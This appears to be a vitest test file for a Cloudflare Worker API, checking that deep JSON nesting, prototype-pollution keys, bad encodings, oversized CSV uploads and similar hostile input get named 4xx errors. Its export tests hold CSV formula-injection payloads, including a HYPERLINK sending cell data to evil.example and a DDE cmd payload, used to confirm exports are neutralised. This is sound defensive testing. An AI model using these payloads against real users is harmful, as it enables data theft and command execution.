import { env } from 'cloudflare:workers';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../worker/src/lib/csv';
import { CLIENT_HEADERS, SERVER_HEADERS, api, call, eventually, json, bytes } from './helpers';

// Hostile input (odd CSV headers, deep nesting, formulas, broken text) gets a 4xx that
// names the place, never a 500 and never a silent change; exports never carry a live formula.

const utf8 = (text: string) => new TextEncoder().encode(text);
/** UTF-16 code units of `text` as bytes, with the byte order mark of that byte order first. */
const utf16 = (text: string, bigEndian: boolean): Uint8Array => {
  const out = new Uint8Array(2 + text.length * 2);
  out.set(bigEndian ? [0xfe, 0xff] : [0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) {
    const unit = text.charCodeAt(i);
    out[2 + 2 * i + (bigEndian ? 0 : 1)] = unit >> 8;
    out[2 + 2 * i + (bigEndian ? 1 : 0)] = unit & 0xff;
  }
  return out;
};

async function expectError(res: Response, status: number, key: string): Promise<string> {
  expect(res.status).toBe(status);
  const body = await json(res);
  expect(body).toMatchObject({ code: status, key });
  return body.details as string;
}

const count = async (sql: string, ...params: unknown[]) =>
  (
    await env.DB.prepare(sql)
      .bind(...params)
      .first<{ n: number }>()
  )?.n ?? -1;
const customers = () => count('SELECT count(*) AS n FROM customers');
const actions = () => count('SELECT count(*) AS n FROM async_actions');

function importCsv(file: string | Uint8Array, init: { name?: string } = {}): Promise<Response> {
  const form = new FormData();
  form.append('file', new Blob([file], { type: 'text/csv' }), init.name ?? 'customers.csv');
  return call('/v1/customers/importCSV', { method: 'POST', headers: SERVER_HEADERS, body: form });
}

/** Waits (a bounded poll) for the queue consumer to write an import's chunks, and reads the action. */
async function importAction(res: Response): Promise<any> {
  expect(res.status).toBe(202);
  const { async_action_id } = await json(res);
  return eventually(
    async () => {
      const action = await json(await api('GET', `/v1/async-actions/${async_action_id}`));
      return action.status !== 'IN_PROGRESS' ? action : undefined;
    },
    30_000,
    'the import',
  );
}

const nested = (levels: number): unknown => (levels === 0 ? 'leaf' : { n: nested(levels - 1) });

describe('JSON bodies: nesting past what SQLite parses', () => {
  it('metadata 1,500 levels deep is a 400 naming the path on the public events route and the customers API, not a 500', async () => {
    const deep = `${'['.repeat(1500)}${']'.repeat(1500)}`;
    const event = await call('/client/v1/events', {
      method: 'POST',
      headers: { ...CLIENT_HEADERS, 'Content-Type': 'application/json' },
      body: `{"event":"deep","customer":{"source_id":"track_EEEEEEEEEEEEEEEEEEEEEE"},"metadata":{"d":${deep}}}`,
    });
    const details = await expectError(event, 400, 'invalid_payload');
    expect(details).toMatch(/^metadata\.d(\[0\])+: JSON may nest at most 32 levels of objects and arrays\.$/);

    const before = await customers();
    const customer = await api('POST', '/v1/customers', `{"source_id":"deep-1","metadata":{"d":${deep}}}`);
    expect(await expectError(customer, 400, 'invalid_payload')).toMatch(/^metadata\.d(\[0\])+: JSON may nest at most 32 levels/);
    expect(await customers()).toBe(before);
  });

  it('takes 32 levels (the body is the first) and refuses the 33rd', async () => {
    // The body, metadata, then 30 objects: 32 containers.
    const ok = await api('POST', '/v1/customers', { source_id: 'deep-32', metadata: { n: nested(30) } });
    expect(ok.status).toBe(200);
    expect((await json(await api('GET', '/v1/customers/deep-32'))).metadata).toEqual({ n: nested(30) });
    const tooDeep = await api('POST', '/v1/customers', { source_id: 'deep-33', metadata: { n: nested(31) } });
    expect(await expectError(tooDeep, 400, 'invalid_payload')).toBe(
      `metadata${'.n'.repeat(31)}: JSON may nest at most 32 levels of objects and arrays.`,
    );
  });
});

describe('JSON bodies: prototype keys, lone surrogates, bytes that are not UTF-8', () => {
  it.each([
    [
      'a metadata key __proto__ (zod dropped it silently)',
      '{"source_id":"proto-1","metadata":{"__proto__":{"admin":true},"tier":"gold"}}',
      'metadata.__proto__',
    ],
    ['a metadata key constructor', '{"source_id":"proto-2","metadata":{"constructor":"x"}}', 'metadata.constructor'],
    ['a prototype key inside an array', '{"source_id":"proto-3","metadata":{"list":[{"prototype":1}]}}', 'metadata.list[0].prototype'],
    ['a top-level __proto__', '{"__proto__":{"source_id":"proto-4"}}', '__proto__'],
  ])('%s is a 400 naming it, and nothing is written', async (_, body, where) => {
    const before = await customers();
    const details = await expectError(await api('POST', '/v1/customers', body), 400, 'invalid_payload');
    expect(details).toBe(`${where}: "__proto__", "constructor", "prototype" cannot be used as keys.`);
    expect(await customers()).toBe(before);
  });

  it('a prototype key in an order’s metadata on validate is refused too (one parser for every body)', async () => {
    const res = await api(
      'POST',
      '/v1/validations',
      '{"redeemables":[{"object":"voucher","id":"NOPE"}],"order":{"amount":100,"metadata":{"__proto__":1}}}',
    );
    expect(await expectError(res, 400, 'invalid_payload')).toBe(
      'order.metadata.__proto__: "__proto__", "constructor", "prototype" cannot be used as keys.',
    );
  });

  it('a lone surrogate in a string or a key is a 400 naming it (it was stored as U+FFFD and lost); pairs are kept exactly', async () => {
    const before = await customers();
    expect(await expectError(await api('POST', '/v1/customers', '{"source_id":"sur-\\ud800-1"}'), 400, 'invalid_payload')).toBe(
      'source_id: contains a lone UTF-16 surrogate, which is not text; send valid Unicode.',
    );
    expect(
      await expectError(await api('POST', '/v1/customers', '{"source_id":"sur-2","metadata":{"k\\udc00":1}}'), 400, 'invalid_payload'),
    ).toMatch(/^metadata\.k.: the key contains a lone UTF-16 surrogate/);
    expect(await customers()).toBe(before);

    const pair = 'sur-\ud83d\ude00-ok';
    expect((await api('POST', '/v1/customers', { source_id: pair, name: pair })).status).toBe(200);
    expect(await json(await api('GET', `/v1/customers/${encodeURIComponent(pair)}`))).toMatchObject({ source_id: pair, name: pair });
  });

  it('a body in Latin-1 is a 400 naming the byte, not a name with U+FFFD in it', async () => {
    const before = await customers();
    const res = await call('/v1/customers', {
      method: 'POST',
      headers: { ...SERVER_HEADERS, 'Content-Type': 'application/json' },
      body: bytes('{"source_id":"latin-1","name":"Jos', [0xe9], '"}'),
    });
    const offset = utf8('{"source_id":"latin-1","name":"Jos').length;
    expect(await expectError(res, 400, 'invalid_payload')).toBe(`The request body is not valid UTF-8: byte 0xE9 at byte offset ${offset}.`);
    expect(await customers()).toBe(before);
  });
});

describe('query strings and filters: prototype keys and bad percent-encoding', () => {
  it.each([
    ['/v1/customers?__proto__[x]=1', 'query parameter "__proto__[x]": "__proto__", "constructor", "prototype" cannot be used as keys.'],
    [
      '/v1/customers?limit=10&constructor=1',
      'query parameter "constructor": "__proto__", "constructor", "prototype" cannot be used as keys.',
    ],
    ['/v1/customers?limit=%FF', 'query parameter "limit": percent-encodes byte 0xFF, which is not UTF-8 there; encode text as UTF-8.'],
    [
      '/v1/customers?email=%ED%A0%80',
      'query parameter "email": percent-encodes byte 0xED, which is not UTF-8 there; encode text as UTF-8.',
    ],
    ['/v1/customers?%C0%AF=1', 'query parameter 1: percent-encodes byte 0xC0, which is not UTF-8 there; encode text as UTF-8.'],
  ])('GET %s is a 400 naming the parameter', async (path, details) => {
    expect(await expectError(await api('GET', path), 400, 'invalid_query_params')).toBe(details);
  });

  it('the client validate query (qs nesting) refuses a prototype key at any depth', async () => {
    const res = await call('/client/v1/validate?code=X&customer[metadata][__proto__]=1', { headers: CLIENT_HEADERS });
    expect(await expectError(res, 400, 'invalid_query_params')).toBe(
      'query parameter "customer[metadata][__proto__]": "__proto__", "constructor", "prototype" cannot be used as keys.',
    );
  });

  const nested = (levels: number) => `a${Array.from({ length: levels }, (_, i) => `[k${i}]`).join('')}=1`;

  it.each([
    ['a server route', '/v1/customers', SERVER_HEADERS],
    ['a client route', '/client/v1/validate', CLIENT_HEADERS],
    ['a console page', '/console/segments', {}],
    ['the export download (its own credential)', '/v1/exports/exp_x/download', {}],
    ['no route at all', '/nowhere', {}],
  ])('a key nested more than 8 brackets deep is a 400 naming it on %s', async (_what, path, headers) => {
    for (const query of [nested(9), `code=X&customer[metadata]${'[x]'.repeat(30)}=1`, `item${'[0]'.repeat(9)}=1`, `x${'['.repeat(9)}=1`]) {
      const res = await call(`${path}?${query}`, { headers });
      const details = await expectError(res, 400, 'invalid_query_params');
      const key = decodeURIComponent(query.split('&').pop()?.split('=')[0] ?? '');
      expect(details, query).toBe(`query parameter "${key}": nests ${key.split('[').length - 1} brackets deep; at most 8 (a[b][c] is 2).`);
    }
  });

  it('eight bracket levels are still read, on the server and the client routes', async () => {
    expect((await api('GET', `/v1/customers?limit=1&${nested(8)}`)).status).toBe(200);
    const res = await call(`/client/v1/validate?code=NOPE&customer[metadata]${'[x]'.repeat(6)}=1`, { headers: CLIENT_HEADERS });
    expect((await json(res)).key).not.toBe('invalid_query_params');
  });

  it('more than 1000 parameters is a 400 naming the first one past the bound, on every route', async () => {
    const many = (n: number) => Array.from({ length: n }, (_, i) => `p${i}=1`).join('&');
    for (const [path, headers] of [
      ['/v1/customers', SERVER_HEADERS],
      ['/client/v1/validate', CLIENT_HEADERS],
      ['/console/sign-in', {}],
    ] as const) {
      expect(await expectError(await call(`${path}?${many(1001)}`, { headers }), 400, 'invalid_query_params'), path).toBe(
        'query parameter 1001: a query string carries at most 1000 parameters.',
      );
    }
    expect((await api('GET', `/v1/customers?limit=1&${many(999)}`)).status).toBe(200);
  });

  it('text percent-encoded as UTF-8 is read as before', async () => {
    await api('POST', '/v1/customers', { source_id: 'qs-é', name: 'É' });
    const res = await api('GET', `/v1/customers/${encodeURIComponent('qs-é')}?limit=%31`);
    expect(res.status).toBe(200);
    expect((await json(res)).name).toBe('É');
  });

  it('a filter naming metadata.constructor or events.__proto__.count is a 400 naming the field', async () => {
    const segment = await api('POST', '/v1/segments', {
      name: 'proto',
      type: 'auto-update',
      filter: { 'metadata.constructor': { conditions: { $is: ['x'] } } },
    });
    expect(await expectError(segment, 400, 'invalid_payload')).toMatch(
      /metadata\.constructor.*"constructor" in field path "metadata\.constructor": "__proto__", "constructor", "prototype" cannot be used as keys/,
    );
    const exp = await api('POST', '/v1/exports', {
      exported_object: 'customer',
      parameters: { filters: { 'events.__proto__.count': { conditions: { $more_than: [0] } } } },
    });
    expect(await expectError(exp, 400, 'invalid_export_params')).toMatch(
      /^parameters\.filters\.events\.__proto__\.count: "__proto__" in field path/,
    );
  });
});

describe('CSV import: hostile headers and encodings', () => {
  it.each(['constructor', '__proto__', 'prototype'])(
    'a column named %s is a 400 naming the column (was a 500), and nothing is written',
    async (name) => {
      const before = await actions();
      const details = await expectError(await importCsv(`Source_id,${name}\nctor-1,x\n`), 400, 'invalid_payload');
      expect(details).toBe(`file: column 2 of the header ("${name}"): "__proto__", "constructor", "prototype" cannot be used as keys`);
      expect(await actions()).toBe(before);
    },
  );

  it('a Latin-1 file is a 400 naming the line and the byte (was imported with U+FFFD)', async () => {
    const before = await actions();
    const file = bytes('Source_id,Name\nlat-ok,Plain\nlat-1,Jos', [0xe9], '\n');
    expect(await expectError(await importCsv(file), 400, 'invalid_payload')).toBe(
      'file: line 3 is not valid UTF-8 (byte 0xE9); save the file as UTF-8 (or as UTF-16 with a byte order mark)',
    );
    expect(await actions()).toBe(before);
    expect((await api('GET', '/v1/customers/lat-ok')).status).toBe(404);
  });

  it('counts physical lines to the bad byte (quoted line breaks, CRLF), and refuses it after 30,000 good rows without writing any', async () => {
    const quoted = bytes('Source_id,Description\r\nq-1,"two\r\nlines"\r\nq-2,ok\r\nq-3,', [0xc3, 0x28], '\r\n');
    expect(await expectError(await importCsv(quoted), 400, 'invalid_payload')).toMatch(/^file: line 5 is not valid UTF-8 \(byte 0xC3\)/);

    const rows = Array.from({ length: 30_000 }, (_, i) => `late-${i},Row ${i}`).join('\n');
    const before = await customers();
    const late = bytes(`Source_id,Name\n${rows}\nlate-bad,`, [0xff], '\n');
    expect(await expectError(await importCsv(late), 400, 'invalid_payload')).toMatch(/^file: line 30002 is not valid UTF-8 \(byte 0xFF\)/);
    expect(await customers()).toBe(before);
  });

  it('a file cut inside a character, or with NULs (UTF-16 without a BOM), is refused by line', async () => {
    expect(await expectError(await importCsv(bytes('Source_id,Name\ncut-1,Ren', [0xc3])), 400, 'invalid_payload')).toMatch(
      /^file: line 2 is not valid UTF-8 \(byte 0xC3\)/,
    );
    const noBom = Uint8Array.from([...'Source_id\nnobom\n'].flatMap((ch) => [ch.charCodeAt(0), 0]));
    expect(await expectError(await importCsv(noBom), 400, 'invalid_payload')).toMatch(
      /^file: line 1 holds a NUL character; is the file UTF-16 without a byte order mark\?/,
    );
  });

  it.each([
    ['UTF-16LE', false],
    ['UTF-16BE', true],
  ])('a %s file with a BOM is decoded, astral characters included', async (_, bigEndian) => {
    const name = `Zoë Łódź 😀 ${bigEndian ? 'be' : 'le'}`;
    const action = await importAction(
      await importCsv(utf16(`Source_id,Name,city\r\nu16-${bigEndian ? 'be' : 'le'},${name},Kraków\r\n`, bigEndian)),
    );
    expect(action.result).toMatchObject({ total_count: 1, done_count: 1, failed_count: 0 });
    expect(await json(await api('GET', `/v1/customers/u16-${bigEndian ? 'be' : 'le'}`))).toMatchObject({
      name,
      metadata: { city: 'Kraków' },
    });
  });

  it('a UTF-16 file with a lone surrogate is refused by line', async () => {
    const file = utf16('Source_id,Name\nu16-bad,x\ud800y\n', false);
    expect(await expectError(await importCsv(file), 400, 'invalid_payload')).toBe(
      'file: line 2 is not valid UTF-16 (a lone surrogate 0xD800)',
    );
  });

  it('a field over 65,536 characters fails its row alone; the body is read as a stream without Content-Length', async () => {
    const csv = `Source_id,Name\nwide-1,${'x'.repeat(70_000)}\nwide-2,Fine\n`;
    const boundary = 'hostile-stream-boundary';
    const body = utf8(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="c.csv"\r\n\r\n${csv}\r\n--${boundary}--\r\n`,
    );
    // Handed over in 7-byte pieces, so the boundary and the CRLFs fall across chunks.
    let at = 0;
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (at >= body.length) return controller.close();
        controller.enqueue(body.slice(at, at + 7));
        at += 7;
      },
    });
    const res = await call('/v1/customers/importCSV', {
      method: 'POST',
      headers: { ...SERVER_HEADERS, 'Content-Type': `multipart/form-data; boundary=${boundary}` },
      body: stream,
      duplex: 'half',
    } as RequestInit);
    const action = await importAction(res);
    expect(action.result).toMatchObject({ total_count: 2, done_count: 1, failed_count: 1 });
    expect(action.result.failed).toEqual([{ row: 1, source_id: null, reason: 'malformed CSV: field 2 is longer than 65,536 characters' }]);
    expect((await json(await api('GET', '/v1/customers/wide-2'))).name).toBe('Fine');
  });

  it('a streamed body over 25 MiB without Content-Length is a 413, and two file fields a 400', async () => {
    const piece = new Uint8Array(1024 * 1024).fill(0x61);
    let sent = 0;
    const boundary = 'big-boundary';
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent === 0)
          controller.enqueue(utf8(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="c.csv"\r\n\r\nSource_id\n`));
        if (sent > 27) return controller.close();
        controller.enqueue(piece);
        sent += 1;
      },
    });
    const big = await call('/v1/customers/importCSV', {
      method: 'POST',
      headers: { ...SERVER_HEADERS, 'Content-Type': `multipart/form-data; boundary=${boundary}` },
      body: stream,
      duplex: 'half',
    } as RequestInit);
    await expectError(big, 413, 'request_too_large');

    const form = new FormData();
    form.append('file', new Blob(['Source_id\na\n']), 'a.csv');
    form.append('file', new Blob(['Source_id\nb\n']), 'b.csv');
    const two = await call('/v1/customers/importCSV', { method: 'POST', headers: SERVER_HEADERS, body: form });
    expect(await expectError(two, 400, 'invalid_payload')).toBe('file: send one file, not several');
  });
});

describe('exports neutralise formulas', () => {
  // A public client could create such customers through POST /client/v1/events with the public key;
  // the server API stores the same values.
  const hostile: [string, string][] = [
    ['formula-hyperlink', '=HYPERLINK("http://evil.example/?"&A2,"Click for refund")'],
    ['formula-plus', '+1+cmd|" /C calc"!A0'],
    ['formula-minus', '-1+2'],
    ['formula-at', '@SUM(1,2)'],
    ['formula-tab', '\tindented'],
    ['formula-cr', '\rreturn'],
    ['formula-quoted', "'=already quoted"],
    ['formula-negative', '-42.5'],
    ['formula-plain', 'Plain name'],
  ];

  async function download(parameters: Record<string, unknown>): Promise<string[][]> {
    const res = await api('POST', '/v1/exports', { exported_object: 'customer', parameters });
    expect(res.status).toBe(200);
    const exp = await json(res);
    const { pathname, search } = new URL(exp.result.url);
    const text = await (await call(pathname + search)).text();
    return [...parseCsv(text)].map((r) => r.fields as string[]);
  }
  const filters = { junction: 'and', source_id: { conditions: { $starts_with: ['formula-'] } } };
  const fields = ['source_id', 'name', 'metadata.note'];

  it("prefixes cells that start with = + - @ tab or CR with ' by default (a negative number stays a number)", async () => {
    for (const [source_id, value] of hostile) {
      // The negative number is stored as a number in metadata, as an import of it would type it.
      const note = source_id === 'formula-negative' ? Number(value) : value;
      expect((await api('POST', '/v1/customers', { source_id, name: value, metadata: { note } })).status).toBe(200);
    }
    const rows = await download({ order: 'created_at', fields, filters });
    expect(rows[0]).toEqual(fields);
    const expected: Record<string, string> = {
      'formula-hyperlink': `'=HYPERLINK("http://evil.example/?"&A2,"Click for refund")`,
      'formula-plus': `'+1+cmd|" /C calc"!A0`,
      'formula-minus': `'-1+2`,
      'formula-at': `'@SUM(1,2)`,
      'formula-tab': `'\tindented`,
      'formula-cr': `'\rreturn`,
      'formula-quoted': `''=already quoted`,
      'formula-negative': '-42.5',
      'formula-plain': 'Plain name',
    };
    for (const [source_id, name, note] of rows.slice(1)) {
      expect(name).toBe(expected[source_id as string]);
      expect(note).toBe(expected[source_id as string]);
    }
    expect(rows).toHaveLength(hostile.length + 1);
  });

  it('parameters.raw_values: true writes the cells as stored, and is echoed only when set', async () => {
    const res = await api('POST', '/v1/exports', { exported_object: 'customer', parameters: { fields, filters, raw_values: true } });
    expect((await json(res)).parameters).toMatchObject({ raw_values: true });
    const plain = await json(await api('POST', '/v1/exports', { exported_object: 'customer', parameters: { fields, filters } }));
    expect(plain.parameters).not.toHaveProperty('raw_values');

    const rows = await download({ order: 'created_at', fields, filters, raw_values: true });
    const stored = Object.fromEntries(hostile);
    for (const [source_id, name, note] of rows.slice(1)) {
      expect(name).toBe(stored[source_id as string]);
      expect(note).toBe(stored[source_id as string]);
    }
    const bad = await api('POST', '/v1/exports', { exported_object: 'customer', parameters: { raw_values: 'yes' } });
    expect(await expectError(bad, 400, 'invalid_payload')).toMatch(/^parameters\.raw_values: /);
  });

  it('the default export re-imports exactly: every row unchanged', async () => {
    const res = await api('POST', '/v1/exports', {
      exported_object: 'customer',
      parameters: { order: 'created_at', fields: ['source_id', 'name', 'metadata.note'], filters },
    });
    const { pathname, search } = new URL((await json(res)).result.url);
    const csv = (await (await call(pathname + search)).text()).replace('metadata.note', 'note');
    const action = await importAction(await importCsv(csv));
    // Unchanged: the import wrote nothing, so every value read back is the one exported.
    expect(action.result).toMatchObject({
      total_count: hostile.length,
      failed_count: 0,
      unchanged_count: hostile.length,
      updated_count: 0,
      created_count: 0,
    });
    for (const [source_id, value] of hostile) {
      const customer = await json(await api('GET', `/v1/customers/${source_id}`));
      expect(customer.name).toBe(value);
      expect(customer.metadata.note).toEqual(source_id === 'formula-negative' ? Number(value) : value);
    }
  });
});
